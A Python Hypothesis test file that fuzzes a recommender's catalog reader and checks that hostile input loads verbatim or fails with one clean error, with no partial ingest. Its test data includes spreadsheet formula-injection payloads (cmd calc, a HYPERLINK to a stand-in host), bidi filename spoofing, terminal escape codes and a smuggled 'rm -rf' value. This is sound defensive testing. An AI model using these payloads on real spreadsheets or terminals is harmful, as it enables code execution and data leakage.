"""Hostile catalog input, generated: every input loads as written or fails with one CatalogError that
names the file, the line and the field; nothing else escapes, and a failed ingest changes no store.

The strategies and `check_*` functions are shared with `benchmarks/reliability/hostile.py`, which runs
them for many more examples.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scenerec.catalog import MAX_LINE_BYTES, Catalog, read_recbole, read_scene_catalog
from scenerec.errors import CatalogError

FUZZ = settings(max_examples=120, deadline=None, suppress_health_check=list(HealthCheck), database=None)

ITEMS, INTERACTIONS, CASES = "items.jsonl", "interactions.csv", "cases.jsonl"
SCENES = ("books", "films")

# strings that spreadsheets would execute, bidi and zero-width tricks, markup, escapes: all plain data
NASTY = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+2",
    "\u202etxt.exe",
    "zero\u200bwidth\u200d\ufeffjoin",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "[bold]rich[/bold] <b>html</b> {{ jinja }} {% raw %}",
    '"quoted", with, commas',
    "line\u2028separator\u2029paragraph\x85nel",
    "NaN",
    "Infinity",
    "null",
    "\\u0000",
    "💥🧨 émoji ǅ İstanbul ß",
]
text_value = st.one_of(
    st.sampled_from(NASTY),
    st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=40),
)
id_value = st.one_of(
    st.sampled_from(["=1+1", "+1", "-1", "@a", "a,b", 'q"q', "ü", "x" * 256]),
    st.text(st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp")), min_size=1, max_size=12).filter(
        lambda s: s.strip() == s and s != ""
    ),
)


@dataclass(frozen=True)
class Outcome:
    """How one input ended: loaded, or rejected with a CatalogError (the only allowed failure)."""

    loaded: bool
    error: CatalogError | None = None


def attempt(read: Callable[[], Catalog], files: set[str]) -> Outcome:
    """Run a reader; a CatalogError must name one of `files` and be one line. Anything else propagates."""
    try:
        catalog = read()
    except CatalogError as exc:
        assert exc.path.name in files, f"error names {exc.path}, not one of {files}"
        assert exc.line is None or exc.line >= 1
        assert "\n" not in str(exc) and "\r" not in str(exc), f"multi-line error: {str(exc)!r}"
        assert "\x1b" not in str(exc), f"escape sequence in error: {str(exc)!r}"
        return Outcome(False, exc)
    assert catalog.items
    return Outcome(True)


def write(directory: Path, files: dict[str, bytes]) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        (directory / name).write_bytes(content)
    return directory


def in_temp_dir(check: Callable[[Path], Outcome]) -> Outcome:
    with tempfile.TemporaryDirectory(prefix="scenerec-fuzz-") as tmp:
        return check(Path(tmp))


# --- generated valid catalogs, and one known defect -------------------------------------------


@st.composite
def valid_catalog(draw: st.DrawFn) -> tuple[list[dict], list[list[str]]]:
    """Item records with hostile-but-legal strings, and interaction rows that reference them."""
    ids = draw(st.lists(id_value, min_size=1, max_size=6, unique=True))
    items = [
        {
            "item_id": item_id,
            "scene": draw(st.sampled_from(SCENES)),
            "title": draw(text_value),
            "text": draw(st.one_of(st.just(""), text_value)),
        }
        for item_id in ids
    ]
    items = [i for i in items if i["title"].strip()] or [
        {"item_id": "x", "scene": "books", "title": "t", "text": ""}
    ]
    if draw(st.booleans()):
        items[0] = {
            **items[0],
            "extra": draw(
                st.one_of(st.floats(allow_nan=False, allow_infinity=False), st.integers(), text_value)
            ),
        }
    users = draw(st.lists(id_value, min_size=0, max_size=3, unique=True))
    rows = []
    for user in users:
        history = draw(st.lists(st.sampled_from(items), min_size=1, max_size=4))
        rows += [[user, it["item_id"], it["scene"], str(p)] for p, it in enumerate(history)]
    return items, rows


def jsonl(records: list[dict], ensure_ascii: bool) -> str:
    return "".join(json.dumps(r, ensure_ascii=ensure_ascii) + "\n" for r in records)


def csv_text(rows: list[list[str]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["user_id", "item_id", "scene", "position"])
    writer.writerows(rows)
    return out.getvalue()


ITEM_DEFECTS: dict[str, tuple[str | None, Callable[[dict], str]]] = {
    # name: (field the error must name, how the record's line is rewritten)
    "blank title": ("title", lambda r: json.dumps({**r, "title": " \t "})),
    "title a number": ("title", lambda r: json.dumps({**r, "title": 1e308})),
    "title null": ("title", lambda r: json.dumps({**r, "title": None})),
    "title nested": ("title", lambda r: json.dumps({**r, "title": [[["deep"]]]})),
    "text an object": ("text", lambda r: json.dumps({**r, "text": {"a": 1}})),
    "text nested 40 deep": (None, lambda r: json.dumps(r)[:-1] + ', "more": ' + "[" * 40 + "]" * 40 + "}"),
    "nested 100000 deep": (
        None,
        lambda r: json.dumps(r)[:-1] + ', "more": ' + "[" * 100000 + "]" * 100000 + "}",
    ),
    "NaN": (None, lambda r: json.dumps(r)[:-1] + ', "score": NaN}'),
    "-Infinity": (None, lambda r: json.dumps(r)[:-1] + ', "score": -Infinity}'),
    "bad scene": ("scene", lambda r: json.dumps({**r, "scene": "Bad Scene!"})),
    "id too long": ("item_id", lambda r: json.dumps({**r, "item_id": "i" * 257})),
    "no title": ("title", lambda r: json.dumps({k: v for k, v in r.items() if k != "title"})),
    "an array": (None, lambda r: json.dumps([r])),
    "truncated": (None, lambda r: json.dumps(r)[:-3]),
    "over the line limit": (None, lambda r: json.dumps({**r, "text": "x" * (MAX_LINE_BYTES + 1)})),
    "lone surrogate in title": ("title", lambda r: json.dumps({**r, "title": "a\ud800b"})),
    "lone surrogate in text": ("text", lambda r: json.dumps({**r, "text": "\udfff"})),
}
ROW_DEFECTS: dict[str, tuple[str, Callable[[list[str]], list[str]]]] = {
    "negative position": ("position", lambda row: row[:3] + ["-1"]),
    "float position": ("position", lambda row: row[:3] + ["1.5"]),
    "nan position": ("position", lambda row: row[:3] + ["nan"]),
    "inf position": ("position", lambda row: row[:3] + ["inf"]),
    "fullwidth digit": ("position", lambda row: row[:3] + ["\uff11"]),
    "formula position": ("position", lambda row: row[:3] + ["=1+1"]),
    "unknown item": ("item_id", lambda row: [row[0], "=no such item", row[2], row[3]]),
    "empty user": ("user_id", lambda row: ["", *row[1:]]),
    "escapes in an unknown id": (
        "item_id",
        lambda row: [row[0], "\x1b[2J\x1b]0;pwned\x07\nrm -rf", *row[2:]],
    ),
    "escapes in a scene": ("scene", lambda row: [row[0], row[1], "\x1b[31mbooks", row[3]]),
    "bad scene": ("scene", lambda row: [row[0], row[1], "=SUM(A1)", row[3]]),
    "short row": ("position", lambda row: row[:3]),
}


def check_valid_catalog(tmp: Path, items: list[dict], rows: list[list[str]], ensure_ascii: bool) -> Outcome:
    """A valid catalog loads with every string exactly as written."""
    directory = write(
        tmp / "c", {ITEMS: jsonl(items, ensure_ascii).encode(), INTERACTIONS: csv_text(rows).encode()}
    )
    outcome = attempt(lambda: read_scene_catalog(directory), {ITEMS, INTERACTIONS})
    assert outcome.loaded, f"a valid catalog was rejected: {outcome.error}"
    catalog = read_scene_catalog(directory)
    assert [(i.item_id, i.scene, i.title, i.text) for i in catalog.items] == [
        (i["item_id"], i["scene"], i["title"], i["text"]) for i in items
    ]
    assert sorted((x.user_id, x.item_id, x.position) for x in catalog.interactions) == sorted(
        (r[0], r[1], int(r[3])) for r in rows
    )
    return outcome


def check_item_defect(tmp: Path, items: list[dict], defect: str, at: int) -> Outcome:
    """One broken item line: rejected, naming items.jsonl, that line and the defect's field."""
    field, rewrite = ITEM_DEFECTS[defect]
    at = at % len(items)
    lines = [json.dumps(r) for r in items]
    lines[at] = rewrite(items[at])
    rows = [["u", items[0]["item_id"], items[0]["scene"], "0"]]
    directory = write(
        tmp / "c", {ITEMS: ("\n".join(lines) + "\n").encode(), INTERACTIONS: csv_text(rows).encode()}
    )
    outcome = attempt(lambda: read_scene_catalog(directory), {ITEMS, INTERACTIONS})
    assert not outcome.loaded and outcome.error is not None, f"{defect} was accepted"
    assert (outcome.error.path.name, outcome.error.line, outcome.error.field) == (ITEMS, at + 1, field), str(
        outcome.error
    )
    return outcome


def check_row_defect(tmp: Path, items: list[dict], rows: list[list[str]], defect: str, at: int) -> Outcome:
    """One broken interaction row: rejected, naming interactions.csv, that line and the field."""
    field, rewrite = ROW_DEFECTS[defect]
    rows = rows or [["u", items[0]["item_id"], items[0]["scene"], "0"]]
    at = at % len(rows)
    broken = [*rows[:at], rewrite(rows[at]), *rows[at + 1 :]]
    text = csv_text(broken)
    directory = write(tmp / "c", {ITEMS: jsonl(items, True).encode(), INTERACTIONS: text.encode()})
    outcome = attempt(lambda: read_scene_catalog(directory), {ITEMS, INTERACTIONS})
    assert not outcome.loaded and outcome.error is not None, f"{defect} was accepted"
    line = csv_text(broken[: at + 1]).count("\n")  # the header is line 1
    assert (outcome.error.path.name, outcome.error.line, outcome.error.field) == (
        INTERACTIONS,
        line,
        field,
    ), str(outcome.error)
    return outcome


ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-32", "latin-1", "cp1252", "shift_jis"]


def check_encoding(tmp: Path, items: list[dict], encoding: str) -> Outcome:
    """Files in another encoding load only when their bytes are the same UTF-8 text; else a clear error."""
    text = jsonl(items, False)
    try:
        data = text.encode(encoding)
    except UnicodeEncodeError:
        data = text.encode(encoding, errors="replace")
    directory = write(tmp / "c", {ITEMS: data, INTERACTIONS: b"user_id,item_id,scene,position\n"})
    outcome = attempt(lambda: read_scene_catalog(directory), {ITEMS, INTERACTIONS})
    try:
        same = data.decode("utf-8-sig") == text
    except UnicodeDecodeError:
        same = False
    if same:
        assert outcome.loaded, f"{encoding} bytes equal to UTF-8 were rejected: {outcome.error}"
    elif not outcome.loaded:
        assert outcome.error is not None and outcome.error.path.name == ITEMS and outcome.error.line
    else:  # decodes as UTF-8 to other text (e.g. latin-1 'Ã©' lookalikes are still valid UTF-8 only by luck)
        catalog = read_scene_catalog(directory)
        assert len(catalog.items) == len(items)
    return outcome


def check_bytes(tmp: Path, name: str, content: bytes) -> Outcome:
    """Arbitrary bytes in one file of an otherwise valid scene catalog."""
    files = {
        ITEMS: b'{"item_id": "b1", "scene": "books", "title": "the hobbit"}\n',
        INTERACTIONS: b"user_id,item_id,scene,position\nu1,b1,books,0\n",
        CASES: b'{"case_id": "c1", "split": "test", "user_id": "u1", "target_scene": "books",'
        b' "target_item": "b1", "history": []}\n',
    }
    files[name] = content
    directory = write(tmp / "c", files)
    return attempt(lambda: read_scene_catalog(directory), set(files))


def check_mutated(tmp: Path, name: str, base: bytes, edits: list[tuple[int, bytes]]) -> Outcome:
    """A valid file with a few bytes replaced or inserted: reaches deeper than random bytes do."""
    data = bytearray(base)
    for position, chunk in edits:
        p = position % (len(data) + 1)
        data[p : p + len(chunk) // 2] = chunk
    return check_bytes(tmp, name, bytes(data))


def check_recbole_bytes(tmp: Path, item: bytes, inter: bytes) -> Outcome:
    directory = write(tmp / "ds", {"ds.item": item, "ds.inter": inter})
    return attempt(lambda: read_recbole(directory, "movies"), {"ds.item", "ds.inter", "ds"})


GOOD_ITEM_LINES = (
    b'{"item_id": "b1", "scene": "books", "title": "the hobbit", "text": "dragons"}\n'
    b'{"item_id": "f1", "scene": "films", "title": "chef", "text": ""}\n'
)
GOOD_ROWS = b"user_id,item_id,scene,position\nu1,b1,books,0\nu1,f1,films,1\n"
RECBOLE_ITEM = b"item_id:token\ttitle:token_seq\tgenre:token_seq\n1\ttoy story\tanimation\n2\theat\tcrime\n"
RECBOLE_INTER = b"user_id:token\titem_id:token\ttimestamp:float\nu1\t1\t5\nu1\t2\t1e3\n"

catalog_file = st.sampled_from([ITEMS, INTERACTIONS, CASES])
edits = st.lists(
    st.tuples(
        st.integers(0, 400),
        st.binary(min_size=1, max_size=6)
        | st.sampled_from([b"\xff", b"\x00", b"\n", b'"', b"\\", b"NaN", b"[[[[", b"\r", b",", b"\t"]),
    ),
    min_size=1,
    max_size=4,
)


# --- the properties -------------------------------------------------------------------------------


@FUZZ
@given(valid_catalog(), st.booleans())
def test_valid_hostile_strings_load_exactly_as_written(catalog: tuple, ensure_ascii: bool) -> None:
    in_temp_dir(lambda tmp: check_valid_catalog(tmp, *catalog, ensure_ascii))


@FUZZ
@given(valid_catalog(), st.sampled_from(sorted(ITEM_DEFECTS)), st.integers(0, 10))
def test_a_broken_item_line_is_named(catalog: tuple, defect: str, at: int) -> None:
    in_temp_dir(lambda tmp: check_item_defect(tmp, catalog[0], defect, at))


@FUZZ
@given(valid_catalog(), st.sampled_from(sorted(ROW_DEFECTS)), st.integers(0, 10))
def test_a_broken_interaction_row_is_named(catalog: tuple, defect: str, at: int) -> None:
    in_temp_dir(lambda tmp: check_row_defect(tmp, *catalog, defect, at))


@FUZZ
@given(valid_catalog(), st.sampled_from(ENCODINGS))
def test_wrong_encodings_load_identically_or_fail_clearly(catalog: tuple, encoding: str) -> None:
    in_temp_dir(lambda tmp: check_encoding(tmp, catalog[0], encoding))


@FUZZ
@given(catalog_file, st.binary(max_size=600))
def test_arbitrary_bytes_never_crash_the_reader(name: str, content: bytes) -> None:
    in_temp_dir(lambda tmp: check_bytes(tmp, name, content))


@FUZZ
@given(st.sampled_from([(ITEMS, GOOD_ITEM_LINES), (INTERACTIONS, GOOD_ROWS)]), edits)
def test_mutated_files_never_crash_the_reader(target: tuple[str, bytes], changes: list) -> None:
    in_temp_dir(lambda tmp: check_mutated(tmp, target[0], target[1], changes))


@FUZZ
@given(
    st.one_of(st.just(RECBOLE_ITEM), st.binary(max_size=300)),
    st.one_of(st.just(RECBOLE_INTER), st.binary(max_size=300)),
    edits,
)
def test_recbole_files_never_crash_the_reader(item: bytes, inter: bytes, changes: list) -> None:
    def check(tmp: Path) -> Outcome:
        data = bytearray(inter)
        for position, chunk in changes:
            p = position % (len(data) + 1)
            data[p:p] = chunk
        return check_recbole_bytes(tmp, item, bytes(data))

    in_temp_dir(check)


# --- ingest: all or nothing -----------------------------------------------------------------------


def store_snapshot(data_dir: Path) -> dict[str, object]:
    """What a user could notice about a data directory: items, histories, manifest, vectors, BM25 files."""
    import sqlite3

    conn = sqlite3.connect(data_dir / "catalog.sqlite")
    try:
        tables = {
            name: sorted(conn.execute(f"SELECT * FROM {name}").fetchall())
            for name in ("items", "interactions", "cases", "manifest")
        }
    finally:
        conn.close()
    bm25 = {p.name: p.read_bytes() for p in sorted((data_dir / "bm25").glob("*"))}
    return {"tables": tables, "bm25": bm25}


HOSTILE_SECOND_CATALOGS: dict[str, dict[str, bytes]] = {
    "valid items then a NaN": {
        ITEMS: b'{"item_id": "n1", "scene": "books", "title": "new"}\n{"item_id": "n2", "scene": "books", "title": NaN}\n',
        INTERACTIONS: b"user_id,item_id,scene,position\n",
    },
    "moves a stored item to another scene": {
        ITEMS: b'{"item_id": "b1", "scene": "films", "title": "the hobbit"}\n',
        INTERACTIONS: b"user_id,item_id,scene,position\n",
    },
    "rewrites alice then breaks": {
        ITEMS: b'{"item_id": "n1", "scene": "books", "title": "new"}\n',
        INTERACTIONS: b"user_id,item_id,scene,position\nalice,n1,books,0\nalice,n1,books,x\n",
    },
    "utf-16": {
        ITEMS: '{"item_id": "n1", "scene": "books", "title": "new"}\n'.encode("utf-16"),
        INTERACTIONS: b"user_id,item_id,scene,position\n",
    },
    "deep nesting": {
        ITEMS: b'{"item_id": "n1", "scene": "books", "title": "new", "x": '
        + b"[" * 50000
        + b"]" * 50000
        + b"}\n",
        INTERACTIONS: b"user_id,item_id,scene,position\n",
    },
}


def check_failed_ingest_changes_nothing(settings, encoder, tmp: Path, files: dict[str, bytes]) -> Outcome:
    """A hostile second ingest into a data directory that already holds a catalog leaves it unchanged."""
    from scenerec.stores.ingest import ingest_catalog

    before = store_snapshot(Path(settings.data_dir))
    directory = write(tmp / "second", files)
    try:
        ingest_catalog(directory, settings, encoder=encoder)
    except CatalogError as exc:
        outcome = Outcome(False, exc)
    else:
        raise AssertionError("a hostile catalog was ingested")
    assert outcome.error is not None and outcome.error.path.name in files and "\n" not in str(outcome.error)
    assert store_snapshot(Path(settings.data_dir)) == before
    return outcome


def test_a_failed_ingest_leaves_every_store_unchanged(tiny_settings, encoder, tmp_path: Path) -> None:
    from scenerec.recommend.recommender import Recommender

    with Recommender.open(settings=tiny_settings) as recommender:
        expected = [r.item_id for r in recommender.recommend("alice", "films", 5)]
    for name, files in HOSTILE_SECOND_CATALOGS.items():
        outcome = check_failed_ingest_changes_nothing(
            tiny_settings, encoder, tmp_path / name.replace(" ", "-"), files
        )
        assert outcome.error is not None and outcome.error.line, name
    with Recommender.open(settings=tiny_settings) as recommender:
        assert [r.item_id for r in recommender.recommend("alice", "films", 5)] == expected


@settings(max_examples=15, deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(catalog_file, edits)
def test_a_fuzzed_second_ingest_is_all_or_nothing(tiny_settings, encoder, name: str, changes: list) -> None:
    """Through ingest_catalog: a mutated catalog either ingests whole or changes nothing."""
    from scenerec.stores.ingest import ingest_catalog

    with tempfile.TemporaryDirectory() as tmp:
        data = Path(tmp) / "data"
        shutil.copytree(tiny_settings.data_dir, data)
        settings_copy = tiny_settings.model_copy(update={"data_dir": data})
        base = {ITEMS: GOOD_ITEM_LINES, INTERACTIONS: GOOD_ROWS}[name] if name != CASES else b""
        other = {ITEMS: GOOD_ITEM_LINES, INTERACTIONS: GOOD_ROWS}
        before = store_snapshot(data)
        mutated = bytearray(base)
        for position, chunk in changes:
            p = position % (len(mutated) + 1)
            mutated[p:p] = chunk
        directory = write(Path(tmp) / "second", {**other, name: bytes(mutated)})
        try:
            ingest_catalog(directory, settings_copy, encoder=encoder)
        except CatalogError as exc:
            assert "\n" not in str(exc)
            assert store_snapshot(data) == before
        else:
            after = store_snapshot(data)
            stored = {row[0] for row in after["tables"]["items"]}  # type: ignore[index]
            assert {i.item_id for i in read_scene_catalog(directory).items} <= stored


def test_the_cli_reports_a_hostile_catalog_in_one_line(tiny_settings, tmp_path: Path) -> None:
    import subprocess
    import sys

    before = store_snapshot(Path(tiny_settings.data_dir))
    directory = write(tmp_path / "hostile", HOSTILE_SECOND_CATALOGS["valid items then a NaN"])
    env = {**os.environ, "SCENEREC_DATA_DIR": str(tiny_settings.data_dir)}
    out = subprocess.run(
        [sys.executable, "-m", "scenerec", "ingest", str(directory)],
        check=False,
        capture_output=True,
        text=True,
        timeout=300,
        env=env,
    )
    assert out.returncode == 2
    assert out.stderr.strip().count("\n") == 0 and "Traceback" not in out.stderr
    assert "items.jsonl, line 2" in out.stderr and "NaN" in out.stderr
    assert store_snapshot(Path(tiny_settings.data_dir)) == before
